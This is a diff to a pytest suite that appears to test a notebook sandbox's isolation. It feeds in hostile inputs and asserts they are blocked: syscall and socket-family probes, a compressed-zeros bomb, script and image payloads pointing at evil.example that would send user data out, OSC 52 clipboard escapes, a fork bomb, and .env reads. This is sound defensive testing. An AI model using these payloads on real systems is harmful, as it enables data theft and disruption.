@@ -414,6 +414,43 @@ print(json.dumps(r))
     assert len(world.accepted) == accepted
 
 
+def test_kernel_interfaces_outside_the_namespaces_are_closed(sandbox: Sandbox, unchanged: None) -> None:
+    # No namespace covers these: vsock reaches the hypervisor with the network off, AIO contexts are counted
+    # machine-wide. Only the seccomp filter closes them; the families the kernel needs still work.
+    report = attack(
+        sandbox,
+        PRELUDE
+        + """
+def family(domain, kind=socket.SOCK_STREAM):
+    try:
+        socket.socket(domain, kind).close()
+        return "open"
+    except OSError as exc:
+        return errno.errorcode.get(exc.errno, str(exc.errno))
+r = {
+  "vsock": family(40),
+  "alg": family(38, socket.SOCK_SEQPACKET),
+  "packet": family(17, socket.SOCK_RAW),
+  "bluetooth": family(31),
+  "tipc": family(30),
+  "unix": family(socket.AF_UNIX),
+  "inet": family(socket.AF_INET),
+  "inet6": family(socket.AF_INET6),
+}
+ctx = ctypes.c_ulong(0)
+r["io_setup"] = libc.syscall(206, 128, ctypes.byref(ctx)) == 0 or errno.errorcode.get(ctypes.get_errno())
+r["socket syscall, family with high bits"] = (
+    libc.syscall(41, ctypes.c_long(40 | (1 << 32)), 1, 0) >= 0 or errno.errorcode.get(ctypes.get_errno())
+)
+print(json.dumps(r))
+""",
+    )
+    refused = {k: v for k, v in report.items() if k not in ("unix", "inet", "inet6")}
+    assert all(v in ("EAFNOSUPPORT", "ENOSYS") for v in refused.values()), report
+    assert report["io_setup"] == "ENOSYS", report
+    assert report["unix"] == report["inet"] == report["inet6"] == "open", report
+
+
 def test_other_kernels_are_out_of_reach(sandbox: Sandbox, world: World, unchanged: None) -> None:
     km = world.kernel()
     info = km.get_connection_info()
@@ -481,6 +518,16 @@ def _hostile_export(body: str) -> str:
             "        w.write_table(t)\n    return json.dumps({'x': {'kind': 'frame'}})",
         ),
         (
+            # A few KB on disk, 80 MB once decompressed (a few more zeros: any size): refused from the metadata.
+            "compressed zeros",
+            "    import pyarrow as pa, numpy as np\n    t = pa.table({'c0': np.zeros(10**7)}).replace_schema_metadata("
+            "{b'ci_magic': json.dumps({'kind': 'frame', 'labels': ['c0'], 'columns_name': None, "
+            "'index': {'range': [0, 10**7, 1], 'names': [None]}, 'dtypes': ['float64']}).encode()})\n"
+            "    opts = pa.ipc.IpcWriteOptions(compression='zstd')\n"
+            "    with pa.OSFile(directory + '/out-x.arrow', 'wb') as f, pa.ipc.new_file(f, t.schema, options=opts) as w:\n"
+            "        w.write_table(t)\n    return json.dumps({'x': {'kind': 'frame'}})",
+        ),
+        (
             "malformed metadata",
             "    import pyarrow as pa\n    t = pa.table({'c0': [1, 2]}).replace_schema_metadata({b'ci_magic': b'{\"kind\": \"frame\", "
             "\"labels\": 5}', b'pandas': b'{broken'})\n"
@@ -514,6 +561,22 @@ def test_the_parent_does_not_trust_what_comes_back(
     assert sandbox.warnings, name
     sandbox.warnings.clear()
     sandbox.restart()  # the exporter is ours again
+
+
+def test_every_arrow_type_comes_back_or_is_refused_never_raises(sandbox: Sandbox) -> None:
+    # polars keeps strings and bytes as Arrow views: they used to make the size check itself raise a bare
+    # ValueError, which lost the whole ask's answer.
+    sandbox.run(
+        "import polars as pl, pyarrow as pa\n"
+        "b = pl.DataFrame({'b': [b'ab', None], 's': ['x', None]})\n"
+        "sv = pa.table({'s': pa.array(['x', 'y'], pa.string_view())})\n"
+        "bv = pa.table({'s': pa.array([b'x', b'y'], pa.binary_view())})\n"
+        "fb = pa.table({'f': pa.array([b'ab', b'cd'], pa.binary(2))})"
+    )
+    got = sandbox.fetch(["b", "sv", "bv", "fb"])
+    assert sorted(got) == ["b", "bv", "fb", "sv"], sandbox.warnings
+    assert got["sv"].column("s").to_pylist() == ["x", "y"] and got["b"]["b"].to_list() == [b"ab", None]
+    sandbox.warnings.clear()
 
 
 def test_listing_lies_are_ignored(sandbox: Sandbox, unchanged: None) -> None:
@@ -554,8 +617,32 @@ def test_script_in_outputs_is_removed(sandbox: Sandbox) -> None:
     for bad in ("<script", "onerror", "javascript:", "evil.example", "window.pwned"):
         assert bad not in data, (bad, data)
     shown = {mime for o in result.outputs for mime in o.get("data", {})}
-    assert not shown & {"application/javascript", "image/svg+xml"}, shown
+    assert "application/javascript" not in shown, shown
     assert "<b>bold</b>" in data and "removed output" in result.text()
+
+
+def test_outputs_are_parsed_then_allow_listed_not_pattern_matched(sandbox: Sandbox) -> None:
+    # Spellings that patterns over the text let through: every one must arrive without a way to run script or
+    # to make the browser fetch (a URL carrying the user's data, fetched although the sandbox has no network).
+    result = sandbox.run(
+        "from IPython.display import display, Markdown, SVG\n"
+        "display(Markdown('see ![chart][c] and [this](javascript:alert(1)) and <https://example.org/auto>\\n\\n'"
+        "'[c]: https://evil.example/ref.png'))\n"
+        'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" xmlns:s="http://www.w3.org/2000/svg" \''
+        "'xmlns:xlink=\"http://www.w3.org/1999/xlink\"><s:script>window.pwned=5</s:script>'"
+        "'<image xlink:href=\"&#104;ttps://evil.example/e.png\"/><style>@import url(//evil.example/c.css);</style>'"
+        '\'<rect width="2" height="2" fill="red"/></svg>\'))\n'
+        "spec = {'mark': 'image', 'data': {'url': 'https:\\\\evil.example/d.csv'},"
+        " 'encoding': {'url': {'field': 'img'}, 'href': {'signal': \"'https://evil.example/' + datum.x\"}},"
+        " 'usermeta': {'embedOptions': {'loader': {'baseURL': 'https://evil.example/'}}}}\n"
+        "display({'application/vnd.vegalite.v5+json': spec, 'text/plain': 'chart'}, raw=True)\n"
+    )
+    data = json.dumps([o.get("data", {}) for o in result.outputs])
+    for bad in ("evil.example", 'href=\\"javascript', "<script", "s:script", "pwned"):  # as text, harmless
+        assert bad not in data, (bad, data)
+    svg = next(o["data"]["image/svg+xml"] for o in result.outputs if "image/svg+xml" in o.get("data", {}))
+    assert "<rect" in svg and 'fill="red"' in svg  # the drawing itself is kept
+    assert any("<p>see" in o["data"].get("text/html", "") for o in result.outputs)  # markdown shown as HTML
 
 
 # -- limits ---------------------------------------------------------------------------------------------------------
@@ -607,6 +694,34 @@ def test_output_is_bounded_in_bytes(sandbox: Sandbox) -> None:
     assert "more displays not shown" in result.text()
 
 
+def test_text_outputs_keep_colours_and_no_other_escape(sandbox: Sandbox) -> None:
+    # A terminal IPython prints %%ask's outputs as they are: OSC 52 would set the user's clipboard, OSC 0 the
+    # window title, and a sequence split over two writes must not be put together again.
+    result = sandbox.run(
+        "import sys\nfrom IPython.display import display\n"
+        "print('\\x1b[31mred\\x1b[0m \\x1b]52;c;ZXZpbA==\\x07 \\x1b]0;pwned\\x1b\\\\ \\x9b2J')\n"
+        "sys.stdout.write('\\x1b[2'); sys.stdout.flush(); sys.stdout.write('J done\\n')\n"
+        "display({'text/plain': 'shown \\x1b]52;c;ZXZpbA==\\x07'}, raw=True)\n"
+        "raise ValueError('\\x1b]52;c;ZXZpbA==\\x07')"
+    )
+    text = json.dumps(result.outputs)
+    assert "\\u001b[31m" in text  # colours stay
+    for bad in ("\\u001b]", "\\u001b[2J", "\\u009b", "\\u0007"):
+        assert bad not in text, (bad, text)
+
+
+def test_error_outputs_count_against_the_output_caps(sandbox: Sandbox) -> None:
+    # Error messages are outputs too: 100 of 800 KB each used to be kept whole (80 MB in the parent, then in
+    # the notebook). The cell's own failure still comes through, named.
+    result = sandbox.run(
+        "ip = get_ipython()\nfor i in range(100):\n    ip._showtraceback(ValueError, 'v' * 4000, ['t' * 4000] * 200)\n"
+        "raise KeyError('the real one')"
+    )
+    assert sum(len(json.dumps(o)) for o in result.outputs) < 2 * sandbox.limits.max_display_bytes
+    assert result.outcome == "error" and result.error_name == "ValueError", result.error_name  # the first
+    assert "more displays not shown" in result.text()
+
+
 def test_memory_and_time_limits(sandbox: Sandbox, unchanged: None) -> None:
     memory = sandbox.run("hog = bytearray(8 * 1024**3)")
     assert memory.error_name == "MemoryError"
@@ -653,12 +768,16 @@ def test_a_fork_bomb_ends_in_a_clean_restart_every_time(sandbox: Sandbox, unchan
             result = sandbox.run("import os\nwhile True:\n    os.fork()")
             # Mostly the kernel does not answer the interrupt and is restarted; sometimes it does, and the
             # forked copies are stopped from outside. Either way the limit is the one set, and nothing is left.
-            assert result.error_name in ("TimeoutError", "KernelDied", "LeftoverProcesses"), result
+            assert result.error_name in ("TimeoutError", "KernelDied", "LeftoverProcesses"), (
+                result,
+                sandbox.warnings,
+            )
             if result.error_name == "TimeoutError":
                 assert "the 3 s time limit" in result.error_value  # the ask's own limit, not the default
             if result.restarted:  # the previous sandbox was gone before the next one started
-                assert _in_namespace(old._pid_ns) == []
-            assert sandbox._process is not None and len(sandbox._process.processes()) <= 2
+                assert _in_namespace(old._pid_ns) == [], (result, sandbox.warnings)
+            assert sandbox._process is not None, (result, sandbox.warnings)
+            assert len(sandbox._process.processes()) <= 2, (result, sandbox._process.processes())
             assert sandbox.run("print(df.a.sum())").text() == "3\n"  # the frames are there
     finally:
         sandbox.set_limits(limits)
@@ -702,6 +821,64 @@ def test_background_cpu_after_the_run_restarts_the_sandbox(sandbox: Sandbox) -> 
     assert sandbox.run("print(df.a.sum())").text() == "3\n"  # restarted, frames back
     assert sandbox.kernel.starts > started
     assert any("kept using the CPU" in w for w in sandbox.warnings)
+    sandbox.warnings.clear()
+
+
+def test_modules_in_the_working_folder_do_not_replace_installed_ones(
+    tmp_path_factory: pytest.TempPathFactory,
+) -> None:
+    # A pandas.py in the folder (the user's, or one an earlier ask's code wrote) used to be imported by the
+    # sandbox's start-up code instead of pandas, breaking every later sandbox started there.
+    folder = tmp_path_factory.mktemp("shadowing")
+    folder.chmod(0o755)
+    for name in ("pandas", "numpy", "json", "inspect", "_ci_child"):
+        (folder / f"{name}.py").write_text("raise SystemExit('hijacked')\n")
+    (folder / "helper.py").write_text("def answer():\n    return 42\n")
+    with Sandbox(Limits(timeout_s=30), user_dir=folder) as sb:
+        result = sb.run("import json, inspect, helper\nprint(pd.__name__, json.dumps([helper.answer()]))")
+        assert result.text() == "pandas [42]\n", result  # installed modules win; the user's own still import
+        assert sb.run("import pandas\nprint(pandas.__file__.startswith('/sandbox'))").text() == "False\n"
+
+
+def test_hidden_files_past_the_walk_are_not_shown(tmp_path_factory: pytest.TempPathFactory) -> None:
+    # The cover of hidden files is a walk with bounds; what it does not reach must not be readable.
+    folder = tmp_path_factory.mktemp("deep")
+    deep = folder / "a" / "b" / "c" / "d" / "e" / "f"
+    deep.mkdir(parents=True)
+    (deep / ".env").write_text("PASSWORD=deep-attack-marker")
+    (deep / "data.csv").write_text("x\n1\n")
+    wide = folder / "wide"
+    wide.mkdir()
+    for i in range(isolation.MAX_COVER_SCAN + 10):
+        (wide / f"f{i:05}.txt").write_text("")
+    (wide / "zz-sub").mkdir()
+    (wide / "zz-sub" / ".env").write_text("PASSWORD=wide-attack-marker")
+    (folder / "top.csv").write_text("x\n1\n")
+    for path in [folder, *folder.rglob("*")]:
+        path.chmod(0o755 if path.is_dir() else 0o644)
+    with Sandbox(Limits(timeout_s=30), user_dir=folder) as sb:
+        result = sb.run(
+            "import os\nfound = []\nfor root, dirs, files in os.walk('.'):\n"
+            "    for f in files:\n        try:\n            found.append(open(os.path.join(root, f)).read())\n"
+            "        except OSError:\n            pass\nprint('marker' in ' '.join(found), os.path.exists('top.csv'))"
+        )
+        assert result.text() == "False True\n", result
+        assert any("shown empty in the sandbox" in w for w in sb.warnings), sb.warnings
+
+
+def test_background_cpu_in_bursts_with_rests_restarts_the_sandbox(sandbox: Sandbox) -> None:
+    # Resting long enough between bursts used to reset the watchdog's count: CPU used while idle must add up.
+    started = sandbox.kernel.starts
+    sandbox.run(
+        "import threading, time\ndef burst():\n    while True:\n        end = time.time() + 1\n"
+        "        while time.time() < end:\n            pass\n        time.sleep(1.5)\n"
+        "threading.Thread(target=burst, daemon=True).start()"
+    )
+    deadline = time.monotonic() + 40
+    while sandbox.kernel.alive and time.monotonic() < deadline:
+        time.sleep(0.5)
+    assert not sandbox.kernel.alive, "bursts of CPU with rests between them were left running"
+    assert sandbox.run("print(1)").text() == "1\n" and sandbox.kernel.starts > started
     sandbox.warnings.clear()
 
 
